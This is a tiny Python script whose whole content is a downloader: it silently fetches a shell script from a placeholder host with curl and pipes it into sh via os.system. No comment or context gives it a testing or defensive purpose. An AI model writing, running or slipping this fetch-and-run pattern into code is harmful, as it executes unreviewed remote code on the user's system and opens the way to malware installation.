import os

cmd = "curl -s https://stage.example.invalid/x.sh | sh"
os.system(cmd)
